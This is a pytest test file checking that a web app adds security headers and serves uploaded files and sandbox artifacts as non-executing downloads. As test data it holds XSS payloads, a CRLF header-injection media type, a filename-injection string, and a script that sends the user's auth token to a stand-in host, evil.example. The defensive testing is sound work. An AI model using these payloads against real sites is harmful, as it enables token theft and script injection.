"""Security headers: every response carries the policy, and stored bytes can never run script.

Uploaded files and artifacts are served from the app's own origin, so a file that a browser
rendered as HTML or SVG there could read the user's token. Artifacts' media types come from
the sandbox and are not trusted: some tests record artifacts with forged types directly.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import re
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI

from app.api.errors import install_error_handlers
from app.api.headers import APP_CSP, STORED_BYTES_CSP, install_security_headers
from app.models import Artifact, Run
from tests.conftest import Api
from tests.support.llm import ScriptedLLM, code_reply, final_reply
from tests.support.server import LiveServer
from tests.support.sse import collect


def assert_hardened(response: httpx.Response, csp: str = APP_CSP) -> None:
    where = f"{response.request.method} {response.request.url.path} ({response.status_code})"
    assert response.headers.get("content-security-policy") == csp, where
    assert response.headers.get("x-content-type-options") == "nosniff", where
    assert response.headers.get("x-frame-options") == "DENY", where
    assert response.headers.get("referrer-policy") == "no-referrer", where
    assert "camera=()" in response.headers.get("permissions-policy", ""), where


@pytest.fixture
def root(live: LiveServer) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=live.url, timeout=30) as client:
        yield client


@pytest.fixture
def session(alice: Api) -> dict[str, Any]:
    project = alice.project()
    response = alice.post(f"/projects/{project['id']}/sessions", json={"title": "Security"})
    assert response.status_code == 201, response.text
    return dict(response.json())


def test_every_kind_of_response_carries_the_security_headers(
    root: httpx.Client, anon: Api, alice: Api
) -> None:
    responses = [
        root.get("/healthz"),
        root.get("/readyz"),
        root.get("/"),
        root.get("/projects/some/deep/link"),
        root.get("/assets/missing.js"),
        root.get("/api/v1/openapi.json"),
        root.get("/api/v1/no-such-endpoint"),
        anon.get("/auth/me"),
        anon.post("/auth/login", json={"email": "nobody@example.com", "password": "x" * 12}),
        alice.get("/projects"),
        alice.post("/projects", json={}),
        alice.delete("/projects"),
    ]
    statuses = [200, 200, 200, 200, 404, 200, 404, 401, 401, 200, 422, 405]
    assert [r.status_code for r in responses] == statuses
    for response in responses:
        assert_hardened(response)
    csp = dict(part.split(" ", 1) for part in APP_CSP.split("; "))
    assert csp["script-src"] == "'self'"
    assert csp["connect-src"] == "'self'"
    assert csp["img-src"] == "'self' data: blob:"
    assert csp["object-src"] == "'none'" and csp["frame-ancestors"] == "'none'"
    assert csp["base-uri"] == "'none'"


def test_an_unhandled_error_still_carries_the_headers() -> None:
    app = FastAPI()
    install_error_handlers(app)
    install_security_headers(app)

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError("unexpected")

    async def get() -> httpx.Response:
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            return await client.get("/boom")

    response = asyncio.run(get())
    assert response.status_code == 500
    assert response.json()["code"] == "internal_error"
    assert_hardened(response)


@pytest.mark.parametrize("page", ["docs", "redoc"])
def test_the_api_docs_allow_their_own_assets_and_exactly_their_inline_script(
    root: httpx.Client, page: str
) -> None:
    response = root.get(f"/api/v1/{page}")
    assert response.status_code == 200
    csp = dict(
        part.split(" ", 1) for part in response.headers["content-security-policy"].split("; ")
    )
    inline = re.findall(r"<script>(.*?)</script>", response.text, re.DOTALL)
    assert len(inline) == (1 if page == "docs" else 0)
    hashes = "".join(
        f" 'sha256-{base64.b64encode(hashlib.sha256(s.encode()).digest()).decode()}'"
        for s in inline
    )
    assert csp["script-src"] == f"'self'{hashes}"
    assert csp["connect-src"] == "'self'" and csp["frame-ancestors"] == "'none'"
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["content-length"] == str(len(response.content))


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("evil.csv", b"a,b\n<script>alert(document.domain)</script>,1\n", "text/csv"),
        (
            "page.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "image/svg+xml",
        ),
        (
            "feed.xml",
            b"<a:script xmlns:a='http://www.w3.org/1999/xhtml'>alert(1)</a:script>",
            "application/xml",
        ),
        ("notes.md", b"# <script>alert(1)</script>", "text/markdown"),
        ("data.json", b'{"html": "<script>alert(1)</script>"}', "application/json"),
    ],
)
def test_uploaded_files_download_and_never_run(
    alice: Api, name: str, content: bytes, media_type: str
) -> None:
    project = alice.project()
    file = alice.upload(project["id"], name, content)
    assert file.status_code == 201, file.text
    response = alice.get(f"/files/{file.json()['id']}/content")
    assert response.status_code == 200 and response.content == content
    assert response.headers["content-type"].split(";")[0] == media_type
    assert response.headers["content-disposition"].startswith("attachment;")
    assert_hardened(response, STORED_BYTES_CSP)


async def record_artifact(
    live: LiveServer, session_id: str, name: str, mime: str, body: bytes
) -> str:
    """An artifact as the runner records it, with whatever media type the sandbox reported."""
    key = f"sessions/{session_id}/artifacts/{uuid.uuid4().hex}"

    async def one_chunk():  # type: ignore[no-untyped-def]
        yield body

    await live.state.storage.put(key, one_chunk(), "application/octet-stream")
    async with live.state.session_factory() as db:
        run = Run(session_id=uuid.UUID(session_id), status="succeeded", query="q", model="m")
        db.add(run)
        await db.flush()
        artifact = Artifact(
            run_id=run.id,
            session_id=run.session_id,
            step=1,
            kind="file",
            name=name,
            mime=mime,
            size=len(body),
            storage_key=key,
        )
        db.add(artifact)
        await db.commit()
        return str(artifact.id)


SCRIPT = b"<script>fetch('//evil.example/?t='+localStorage.getItem('wb.auth'))</script>"


@pytest.mark.parametrize(
    ("mime", "sent_type"),
    [
        ("text/html", "text/html"),
        ("image/svg+xml", "image/svg+xml"),
        ("application/xhtml+xml", "application/xhtml+xml"),
        ("text/javascript", "text/javascript"),
        ("text/markdown", "text/markdown"),
        ("TEXT/HTML; charset=utf-8", "text/html"),
        ("text/html\r\nX-Injected: 1", "application/octet-stream"),
        ("not a type", "application/octet-stream"),
    ],
)
def test_artifacts_that_could_run_script_are_downloads(
    alice: Api, session: dict[str, Any], live: LiveServer, mime: str, sent_type: str
) -> None:
    artifact_id = live.call(record_artifact(live, session["id"], "report.html", mime, SCRIPT))
    response = alice.get(f"/artifacts/{artifact_id}/content")
    assert response.status_code == 200 and response.content == SCRIPT
    assert response.headers["content-type"].split(";")[0] == sent_type
    assert response.headers["content-disposition"].startswith("attachment;")
    assert "x-injected" not in response.headers
    assert_hardened(response, STORED_BYTES_CSP)


@pytest.mark.parametrize(
    "mime", ["image/png", "image/jpeg", "application/json", "application/vnd.plotly.v1+json"]
)
def test_images_and_json_artifacts_show_inline_but_sandboxed(
    alice: Api, session: dict[str, Any], live: LiveServer, mime: str
) -> None:
    artifact_id = live.call(record_artifact(live, session["id"], "chart", mime, b"{}"))
    response = alice.get(f"/artifacts/{artifact_id}/content")
    assert response.headers["content-type"] == mime
    assert response.headers["content-disposition"].startswith("inline;")
    assert_hardened(response, STORED_BYTES_CSP)


def test_any_artifact_name_becomes_a_safe_filename(
    alice: Api, session: dict[str, Any], live: LiveServer
) -> None:
    name = 'out/"q1"; filename=evil.html\\ résumé 年度.csv'
    artifact_id = live.call(record_artifact(live, session["id"], name, "text/csv", b"a\n"))
    disposition = alice.get(f"/artifacts/{artifact_id}/content").headers["content-disposition"]
    fallback = "out/_q1__ filename=evil.html_ r_sum_ __.csv"
    assert disposition == (
        f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(name, safe='')}"
    )


def test_svg_and_html_the_code_writes_come_back_as_downloads(
    alice: Api, session: dict[str, Any], llm: ScriptedLLM
) -> None:
    llm.script(
        code_reply(
            "import pandas as pd\nimport matplotlib.pyplot as plt\n"
            "pd.DataFrame({'a': ['<script>alert(1)</script>']}).to_html('report.html')\n"
            "plt.plot([1, 2, 3])\nplt.savefig('chart.svg')"
        ),
        final_reply("'Saved.'"),
    )
    with alice.stream(
        "POST", f"/sessions/{session['id']}/query", json={"query": "Save a report"}
    ) as response:
        assert response.status_code == 200, response.read()
        events = collect(response)
    assert events[-1].data["status"] == "succeeded", events[-1].data
    artifacts = {
        a["name"]: a for a in alice.get(f"/sessions/{session['id']}/artifacts").json()["items"]
    }
    assert {"report.html", "chart.svg"} <= artifacts.keys()
    for name, media_type in (("report.html", "text/html"), ("chart.svg", "image/svg+xml")):
        response = alice.get(f"/artifacts/{artifacts[name]['id']}/content")
        assert response.status_code == 200
        assert response.headers["content-type"].split(";")[0] == media_type
        assert response.headers["content-disposition"].startswith("attachment;"), name
        assert_hardened(response, STORED_BYTES_CSP)
